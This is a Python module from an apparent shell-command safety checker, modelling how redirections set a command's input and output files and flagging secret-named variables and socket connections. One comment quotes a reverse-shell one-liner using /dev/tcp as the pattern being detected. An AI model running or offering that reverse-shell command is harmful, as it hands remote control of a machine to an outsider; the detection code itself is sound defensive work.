"""Redirections: where a command's input comes from and which files its output goes to."""

import re

from cli_guard.commands.effects.paths import path_of, read_path, write_path
from cli_guard.commands.effects.places import PathClass, classify_path
from cli_guard.commands.expand.fields import Field, literal, stream_of
from cli_guard.commands.model import EffectKind
from cli_guard.commands.parse.tree import Redirect
from cli_guard.commands.scope import (
    ANYTHING,
    NOTHING,
    REMOTE_DATA,
    TOKEN,
    Stream,
    make_doubtful,
)
from cli_guard.commands.shell import Shell
from cli_guard.lazy import frozen

DESCRIPTOR = re.compile(r"(\d*)-?")
STANDARD = ("", "0", "1", "2", "&")
OUTPUT = ("", "1", "&")
FROM_NETWORK = REMOTE_DATA


@frozen
class OutputFile:
    """A file that the output of one descriptor goes to, which is emptied first unless it is added to."""

    descriptor: str
    target: Field
    appends: bool = False


Sinks = list[OutputFile]


def apply_redirects(
    shell: Shell, redirects: tuple[Redirect, ...], stdin: Stream
) -> tuple[Stream, Sinks]:
    """Return the input of a command and the target file of each descriptor."""
    sinks: Sinks = []
    for redirect in redirects:
        target = shell.expander().one(redirect.target)
        if redirect.operator in ("<<", "<<-", "<<<"):
            stdin = stream_of(target)
            if TOKEN in target.taints:
                reason = "reads a variable that is named like a secret, and may print it"
                shell.emit(EffectKind.CREDENTIAL, None, reason, redirect.span)
        elif redirect.operator in (">&", "<&") and (
            number := DESCRIPTOR.fullmatch(target.text or "x")
        ):
            opened = shell.scope.descriptors.get(number[1])
            if (
                redirect.descriptor in ("0", "")
                and number[1] in ("1", "2")
                and is_connected(shell, sinks)
            ):
                # `true | bash -i >& /dev/tcp/HOST/4444 0>&1`: the input is the connection, whatever the pipe holds.
                stdin = FROM_NETWORK
            if opened and redirect.operator == ">&":
                sinks.append(
                    OutputFile(redirect.descriptor, literal(opened, redirect.span), True)
                )
            elif (
                redirect.operator == ">&"
                and redirect.descriptor in OUTPUT
                and number[1] == "2"
            ):
                sinks.append(OutputFile("", literal("/dev/stderr", redirect.span)))
            elif opened:
                stdin = read_path(shell, literal(opened, redirect.span), redirect.span)
        elif redirect.operator == "<" and target.stream is not None:
            stdin = target.stream
        else:
            if redirect.descriptor not in STANDARD and target.text is not None:
                shell.scope.descriptors[redirect.descriptor] = target.text
            if redirect.operator in ("<", "<&"):
                stdin = read_path(shell, target, redirect.span)
            else:
                adds = ">>" in redirect.operator
                if adds:
                    shell.extend_file(path_of(shell, target))
                sinks.append(OutputFile(redirect.descriptor, target, adds))
    return stdin, sinks


def may_not_open(redirects: tuple[Redirect, ...], sinks: Sinks) -> bool:
    """Return whether a file among the redirections may be missing or not writable."""
    opens = any(not each.target.start.startswith("/dev/") for each in sinks)
    return opens or any(redirect.operator == "<" for redirect in redirects)


def is_connected(shell: Shell, sinks: Sinks) -> bool:
    """Return whether the output goes to a connection; usually the input then comes from there too."""
    return any(
        classify_path(path_of(shell, each.target)) is PathClass.SOCKET
        for each in sinks
        if each.target.start[:5] == "/dev/"
    )


def write_sinks(shell: Shell, output: Stream, sinks: Sinks) -> Stream:
    """Write the output to its files; return what is left for the pipe."""
    for sink in sinks:
        target = sink.target
        carried = output if sink.descriptor in OUTPUT else ANYTHING
        if target.script is not None:
            shell.run_script(target.script, carried)
            continue
        # A dash is the name of a file here.
        named = literal("./-", target.span, like=target) if target.text == "-" else target
        if not sink.appends and shell.has_read(path_of(shell, named)):
            # The shell has emptied it before the command could read it: `sort FILE > FILE`.
            carried = NOTHING
        write_path(shell, named, carried, appends=sink.appends)
    taken = [each.target for each in sinks if each.descriptor in OUTPUT]
    if any(target.start.startswith(("/dev/", "/proc/")) for target in taken):
        # `>/dev/stdout` is the pipe, and `>&2` may be.
        return make_doubtful(output)
    return NOTHING if taken else output
